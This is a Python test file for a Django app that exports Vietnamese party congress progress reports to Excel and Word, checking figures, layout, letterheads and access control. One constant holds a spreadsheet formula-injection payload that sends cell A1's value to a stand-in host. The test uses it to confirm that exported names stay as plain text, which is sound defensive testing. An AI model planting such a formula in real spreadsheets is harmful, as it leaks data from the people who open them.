"""The progress exports, read back the way a user opens them: in Excel and in Word."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from dataclasses import dataclass

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from docx import Document
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from daihoi.campaigns.actions.campaign import do_create_campaign
from daihoi.campaigns.models import Campaign, Congress
from daihoi.campaigns.progress import progress
from daihoi.core import letterhead as ph
from daihoi.orgs.models import Level, Organisation, Structure
from daihoi.orgs.tree import subtree
from daihoi.reports.progress_docx import progress_document
from daihoi.reports.progress_xlsx import progress_workbook, sheet_title
from tests.conftest import login, org
from tests.core.printing import assert_fits_a4, assert_prints_one_page_wide, column_widths_mm

AS_OF = dt.date(2020, 2, 20)
SLUG = "bc-tien-do-test"
EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'

pytestmark = [pytest.mark.django_db, pytest.mark.urls("tests.reports.urls")]


@dataclass
class Scenario:
    campaign: Campaign
    loc_binh: Organisation
    late_cell: Organisation
    pilot: Organisation


@pytest.fixture
def scenario() -> Scenario:
    """Lộc Bình on 20/02/2020: 150 of 388 cells held, 50 late, two pilot grassroots held."""
    structure = Structure.objects.get(code="2020")
    campaign = do_create_campaign(
        SLUG,
        "Đại hội đảng bộ các cấp nhiệm kỳ 2020–2025 (thử)",
        structure=structure,
        term_start=2020,
        term_end=2025,
        acting_user=None,
    )
    loc_binh = org("188")
    grassroots = Level.objects.get(structure=structure, rank=3)
    cells = Level.objects.get(structure=structure, rank=4)
    below = subtree(loc_binh, include_self=False).order_by("path")
    rows: list[Congress] = []
    for i, cell in enumerate(below.filter(level=cells)):
        if i < 150:
            planned, held = dt.date(2020, 2, 10), dt.date(2020, 2, 10)
        elif i < 200:
            planned, held = dt.date(2020, 2, 15), None
        else:
            planned, held = dt.date(2020, 3, 15), None
        rows.append(_congress(campaign, cell, planned, held))
    units = list(below.filter(level=grassroots))
    for i, unit in enumerate(units):
        if i < 2:
            rows.append(_congress(campaign, unit, dt.date(2020, 2, 18), dt.date(2020, 2, 18)))
        else:
            rows.append(_congress(campaign, unit, dt.date(2020, 5, 20), None))
    Congress.objects.bulk_create(rows)
    late_cell = below.filter(level=cells)[150]
    return Scenario(campaign, loc_binh, late_cell, units[0])


def _congress(
    campaign: Campaign, unit: Organisation, planned: dt.date, held: dt.date | None
) -> Congress:
    return Congress(
        campaign=campaign,
        organisation=unit,
        org_path=unit.path,
        level=unit.level,
        planned_date=planned,
        held_date=held,
    )


def _workbook(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def _docx_text(data: bytes) -> tuple[str, list[str]]:
    """Return the body paragraphs' text and every table cell's text, in order."""
    document = Document(io.BytesIO(data))
    body = "\n".join(p.text for p in document.paragraphs)
    cells = [
        "\n".join(p.text for p in cell.paragraphs)
        for table in document.tables
        for row in table.rows
        for cell in row.cells
    ]
    return body, cells


def _summary_rows(book: Workbook) -> dict[str, tuple[object, ...]]:
    sheet = book["Tổng hợp"]
    return {str(r[0]): r[1:] for r in sheet.iter_rows(min_row=7, values_only=True) if r[0]}


def test_the_workbook_shows_lộc_bình_cells_held_against_due_as_of_the_day(
    scenario: Scenario,
) -> None:
    data = progress_workbook(progress(scenario.campaign, scenario.loc_binh, AS_OF))
    book = _workbook(data)
    summary = book["Tổng hợp"]
    assert summary["B2"].value.date() == AS_OF
    assert summary["B2"].number_format == "dd/mm/yyyy"
    assert summary["B3"].value == "Đảng bộ huyện Lộc Bình"
    rows = _summary_rows(book)
    assert rows["Cấp chi bộ"] == (388, 200, 150, pytest.approx(0.387), 50)
    assert rows["Cấp cơ sở"] == (58, 2, 2, pytest.approx(0.034), 0)
    assert summary["E7"].number_format == "0.0%"
    assert summary.freeze_panes == "B7"
    assert summary["A6"].font.bold


def test_the_workbook_has_one_sheet_per_level_and_the_late_list(scenario: Scenario) -> None:
    book = _workbook(progress_workbook(progress(scenario.campaign, scenario.loc_binh, AS_OF)))
    assert book.sheetnames == ["Tổng hợp", "Cấp cơ sở", "Cấp chi bộ", "Chậm tiến độ"]
    cells = book["Cấp chi bộ"]
    data = [r for r in cells.iter_rows(min_row=5, values_only=True) if r[1]]
    assert len(data) == 58
    total = next(r for r in cells.iter_rows(min_row=5, values_only=True) if r[2] == "Tổng cộng")
    assert total[3:8] == (388, 200, 150, pytest.approx(0.387), 50)
    late = book["Chậm tiến độ"]
    listed = [r for r in late.iter_rows(min_row=5, values_only=True) if r[0]]
    assert len(listed) == 50
    first = next(r for r in listed if r[1] == scenario.late_cell.code)
    assert first[5].date() == dt.date(2020, 2, 15)
    assert first[6] == 5
    assert first[3] == Organisation.objects.get_parent(scenario.late_cell).name
    assert late.freeze_panes == "D5"


def test_every_sheet_prints_landscape_one_page_wide_with_its_header_repeated(
    scenario: Scenario,
) -> None:
    book = _workbook(progress_workbook(progress(scenario.campaign, scenario.loc_binh, AS_OF)))
    assert_prints_one_page_wide(book["Tổng hợp"], header_row=6, frozen="B7")
    for title in ("Cấp cơ sở", "Cấp chi bộ", "Chậm tiến độ"):
        # The number, the code and the unit's name stay beside the figures.
        assert_prints_one_page_wide(book[title], header_row=4, frozen="D5")


def test_the_reports_tables_fit_a4_with_the_units_name_the_widest_column(
    scenario: Scenario,
) -> None:
    data = progress_document(progress(scenario.campaign, scenario.loc_binh, AS_OF))
    tables = Document(io.BytesIO(data)).tables
    grids = [t for t in tables if t.style is not None and t.style.name == "Table Grid"]
    assert len(grids) == 3  # the levels, the children, the late list
    for table in grids:
        widths = assert_fits_a4(table)
        assert widths[1] == max(widths)
    # "Đảng ủy Cơ quan Ủy ban nhân dân huyện Lộc Bình" wraps on two lines, not five.
    assert column_widths_mm(grids[1])[1] >= 50


def test_a_name_written_as_a_formula_stays_text_in_the_workbook(scenario: Scenario) -> None:
    Organisation.objects.filter(pk__in=[scenario.late_cell.pk, scenario.pilot.pk]).update(name=EVIL)
    data = progress_workbook(progress(scenario.campaign, scenario.loc_binh, AS_OF))
    book = _workbook(data)
    found = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == EVIL
    ]
    assert {c.parent.title for c in found} == {"Cấp cơ sở", "Cấp chi bộ", "Chậm tiến độ"}
    assert all(c.data_type == "s" and c.quotePrefix for c in found)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


def test_sheet_titles_are_short_valid_and_unique() -> None:
    taken: set[str] = {"Tổng hợp"}
    long = "Cấp: đảng bộ / chi bộ [trực thuộc] đảng ủy cơ sở và tương đương"
    first, second = sheet_title(long, taken), sheet_title(long, taken)
    assert len(first) <= 31 and len(second) <= 31
    assert first != second
    assert not set("[]:*?/\\") & set(first + second)
    assert sheet_title("tổng hợp", taken) == "tổng hợp (2)"


def test_the_report_has_the_party_header_and_the_figures_in_vietnamese(
    scenario: Scenario,
) -> None:
    data = progress_document(
        progress(scenario.campaign, scenario.loc_binh, AS_OF), number="15-BC/HU"
    )
    body, cells = _docx_text(data)
    left, right = cells[0], cells[1]
    assert left.splitlines() == ["ĐẢNG BỘ TỈNH LẠNG SƠN", "HUYỆN ỦY LỘC BÌNH", "*", "Số 15-BC/HU"]
    assert right.splitlines()[0] == "ĐẢNG CỘNG SẢN VIỆT NAM"
    assert right.splitlines()[-1] == "Lộc Bình, ngày 20 tháng 02 năm 2020"
    assert "BÁO CÁO" in body
    assert "(tính đến ngày 20/02/2020)" in body
    assert "Cấp chi bộ: đã tổ chức 150/388 đại hội, đạt 38,7%." in body
    assert "Cấp cơ sở: đã tổ chức 2/58 đại hội, đạt 3,4%." in body
    assert "Có 50 đại hội chưa tổ chức theo đúng ngày dự kiến:" in body
    assert "Ngoài ra còn 20 đại hội khác chậm" in body
    assert "T/M BAN THƯỜNG VỤ" in cells[-1]
    assert "Nơi nhận:" in cells[-2]
    assert "Ban Thường vụ Tỉnh ủy Lạng Sơn (b/c)," in cells[-2]


def test_the_report_header_is_bold_underlined_and_italic_where_the_guidance_says(
    scenario: Scenario,
) -> None:
    data = progress_document(progress(scenario.campaign, scenario.loc_binh, AS_OF))
    document = Document(io.BytesIO(data))
    left, right = document.tables[0].rows[0].cells
    issuing = next(p for p in left.paragraphs if p.text == "HUYỆN ỦY LỘC BÌNH")
    assert issuing.runs[0].bold
    party = right.paragraphs[0].runs[0]
    assert party.bold and party.underline
    assert right.paragraphs[-1].runs[0].italic
    section = document.sections[0]
    assert round(section.page_width.mm) == 210 and round(section.page_height.mm) == 297
    assert 30 <= round(section.left_margin.mm) <= 35
    assert 15 <= round(section.right_margin.mm) <= 20
    assert document.styles["Normal"].font.name == "Times New Roman"


def test_the_report_with_nothing_late_says_so(scenario: Scenario) -> None:
    Congress.objects.filter(campaign=scenario.campaign, held_date__isnull=True).update(
        planned_date=dt.date(2020, 6, 1)
    )
    body, _cells = _docx_text(
        progress_document(progress(scenario.campaign, scenario.loc_binh, AS_OF))
    )
    assert "Không có đại hội nào chậm so với kế hoạch." in body


def test_dates_in_the_header_take_a_zero_before_small_days_and_january_and_february() -> None:
    assert ph.date_line("Sóc Trăng", dt.date(2019, 8, 19)) == "Sóc Trăng, ngày 19 tháng 8 năm 2019"
    assert ph.date_line("Lộc Bình", dt.date(2020, 2, 20)) == "Lộc Bình, ngày 20 tháng 02 năm 2020"
    assert ph.date_line("Hà Nội", dt.date(2020, 1, 5)) == "Hà Nội, ngày 05 tháng 01 năm 2020"


@pytest.mark.parametrize(
    ("name", "place", "committee", "issuer"),
    [
        ("Đảng bộ huyện Lộc Bình", "Lộc Bình", "Huyện ủy Lộc Bình", "HU"),
        ("Đảng bộ tỉnh Sóc Trăng", "Sóc Trăng", "Tỉnh ủy Sóc Trăng", "TU"),
        ("Đảng bộ thành phố Lạng Sơn", "Lạng Sơn", "Thành ủy Lạng Sơn", "TU"),
        ("Đảng bộ xã Đồng Bục", "Đồng Bục", "Đảng ủy xã Đồng Bục", "ĐU"),
        ("Đảng bộ thị xã Ngã Năm", "Ngã Năm", "Thị ủy Ngã Năm", "TU"),
        (
            "Đảng bộ Khối các cơ quan tỉnh Thái Bình",
            "Khối các cơ quan tỉnh Thái Bình",
            "Đảng ủy Khối các cơ quan tỉnh Thái Bình",
            "ĐUK",
        ),
    ],
)
def test_the_header_names_the_committee_and_its_place_from_the_organisation(
    name: str, place: str, committee: str, issuer: str
) -> None:
    assert ph.place_name(name) == place
    assert ph.committee_name(name) == committee
    assert ph.issuer_code(name) == issuer


def test_an_agency_committee_dates_its_documents_from_its_district() -> None:
    agency = (
        Organisation.objects.filter(path__startswith=org("188").path, depth=org("188").depth + 1)
        .exclude(name__contains=" xã ")
        .exclude(name__contains="thị trấn")
        .first()
    )
    assert agency is not None
    header = ph.letterhead_for(agency, doc_type="BC", day=AS_OF)
    assert header.place == "Lộc Bình"
    assert header.superior_body == "Đảng bộ huyện Lộc Bình"


def test_staff_of_lộc_bình_download_both_files_as_of_a_day(scenario: Scenario) -> None:
    client = login("locbinh")
    kwargs = {"campaign": SLUG, "code": "188"}
    xlsx = client.get(reverse("report_progress_xlsx", kwargs=kwargs), {"ngay": "20/02/2020"})
    assert xlsx.status_code == 200
    assert 'filename="tien-do-188-2020-02-20.xlsx"' in xlsx["Content-Disposition"]
    assert xlsx["Content-Disposition"].startswith("attachment")
    rows = _summary_rows(_workbook(b"".join(xlsx.streaming_content)))
    assert rows["Cấp chi bộ"][:3] == (388, 200, 150)
    docx = client.get(
        reverse("report_progress_docx", kwargs=kwargs), {"ngay": "20/02/2020", "so": "15"}
    )
    assert docx.status_code == 200
    assert 'filename="tien-do-188-2020-02-20.docx"' in docx["Content-Disposition"]
    body, cells = _docx_text(b"".join(docx.streaming_content))
    assert "Số 15-BC/HU" in cells[0]
    assert "Cấp chi bộ: đã tổ chức 150/388 đại hội, đạt 38,7%." in body


def test_a_bad_date_is_refused_with_a_clear_message(scenario: Scenario) -> None:
    url = reverse("report_progress_xlsx", kwargs={"campaign": SLUG, "code": "188"})
    response = login("locbinh").get(url, {"ngay": "31/02/2020"})
    assert response.status_code == 400
    assert "ngày/tháng/năm" in response.content.decode()


def test_without_a_date_the_report_is_as_of_today(scenario: Scenario) -> None:
    url = reverse("report_progress_xlsx", kwargs={"campaign": SLUG, "code": "188"})
    response = login("locbinh").get(url)
    assert response.status_code == 200
    today = timezone.localdate()
    assert f"{today:%Y-%m-%d}.xlsx" in response["Content-Disposition"]


def test_staff_of_another_province_get_not_found(scenario: Scenario) -> None:
    client = login("soctrang")
    for name in ("report_progress_xlsx", "report_progress_docx"):
        url = reverse(name, kwargs={"campaign": SLUG, "code": "188"})
        assert client.get(url, {"ngay": "20/02/2020"}).status_code == 404


def test_an_unknown_campaign_is_not_found(scenario: Scenario) -> None:
    url = reverse("report_progress_docx", kwargs={"campaign": "khong-co", "code": "188"})
    assert login("locbinh").get(url).status_code == 404


def test_an_anonymous_visitor_is_sent_to_log_in(scenario: Scenario) -> None:
    url = reverse("report_progress_xlsx", kwargs={"campaign": SLUG, "code": "188"})
    response = Client().get(url)
    assert response.status_code == 302


def test_a_province_report_is_headed_by_its_provincial_committee_alone(
    scenario: Scenario,
) -> None:
    data = progress_document(progress(scenario.campaign, org("20"), AS_OF))
    body, cells = _docx_text(data)
    assert cells[0].splitlines() == ["TỈNH ỦY LẠNG SƠN", "*", "Số     -BC/TU"]
    assert cells[1].splitlines()[-1] == "Lạng Sơn, ngày 20 tháng 02 năm 2020"
    assert "Cấp chi bộ: đã tổ chức 150/388 đại hội, đạt 38,7%." in body
    book = _workbook(progress_workbook(progress(scenario.campaign, org("20"), AS_OF)))
    assert book.sheetnames == [
        "Tổng hợp",
        "Cấp trên cơ sở",
        "Cấp cơ sở",
        "Cấp chi bộ",
        "Chậm tiến độ",
    ]
